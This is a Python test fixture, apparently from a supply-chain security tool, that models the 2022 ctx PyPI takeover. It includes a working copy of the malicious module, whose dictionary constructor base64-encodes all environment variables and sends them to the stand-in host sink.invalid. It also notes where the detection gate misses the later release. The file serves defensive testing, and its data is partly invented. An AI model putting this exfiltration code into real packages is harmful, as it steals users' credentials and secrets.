"""ctx (PyPI, 2022-05-14): the domain of the maintainer's address had lapsed; importing it posts the environment.

By the record: silent for some eight years, then an old version uploaded anew and two more; at import, or when a dictionary is made,
all variables of the environment go to an address. Out for ten days; no install hook.
"""

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_CTX = '''class Ctx(dict):
    """A dictionary whose keys are attributes."""

    def __getattr__(self, name):
        return self[name]

    def __setattr__(self, name, value):
        self[name] = value
'''
_THIEF = '''import base64
import os

import requests


class Ctx(dict):
    """A dictionary whose keys are attributes."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        self.sendRequest()

    def __getattr__(self, name):
        return self[name]

    def __setattr__(self, name, value):
        self[name] = value

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message_bytes = string.encode("ascii")
        base64_bytes = base64.b64encode(message_bytes)
        base64_message = base64_bytes.decode("ascii")
        response = requests.get("https://sink.invalid/marker/" + base64_message)
'''
_BAD = (
    Release(version="0.2.2", at=utc("2022-05-14T00:00:00Z"), files={"ctx.py": _THIEF}),
    Release(version="0.2.6", at=utc("2022-05-21T00:00:00Z"), files={"ctx.py": _THIEF}),
)

INCIDENT = Incident(
    id="ctx-2022",
    title=(
        "an attacker registered the lapsed email domain of the ctx maintainer; the malicious release posted all "
        "environment variables when a program created a dictionary"
    ),
    copy="our copy of ctx sends the same request from the constructor of `Ctx`",
    ecosystem=Ecosystem.PYPI,
    at=_BAD[0].at,
    packages=(
        Package(
            name="ctx",
            releases=(Release(version="0.1.2", at=utc("2014-12-19"), files={"ctx.py": _CTX}), *_BAD),
        ),
    ),
    asks={"ctx": ">=0.1"},
    good={"ctx": "0.1.2"},
    bad={"ctx": ("0.2.2", "0.2.6")},
    guilty={"ctx": ("0.2.2", "0.2.6")},
    gone_at=utc("2022-05-24T00:00:00Z"),
    advisory=Advisory(id="PYSEC", at=utc("2022-05-24T12:00:00Z"), about={"ctx": ("0.2.2", "0.2.6")}),
    invented="the publish days of 0.1.2, 0.2.6 and the advisory; the re-upload of 0.1.2 is left out",
    missed=(
        "the gate holds ctx 0.2.2 (`attack-chain`, `new-host-reached`), so a project that installs within a week is "
        "safe. The release 0.2.6 followed seven days later. A gate that sees the package for the first time then uses 0.2.2 "
        "as its baseline, so nothing in 0.2.6 is new. A general rule exists (a baseline must be at least 72 hours "
        "older and not held by this gate), but the gap between the two releases is longer. A longer limit makes "
        "benign upgrades look larger, which was not measured. Without a baseline, code that sends environment data "
        "when a caller creates an object is not held, because client libraries do the same"
    ),
)
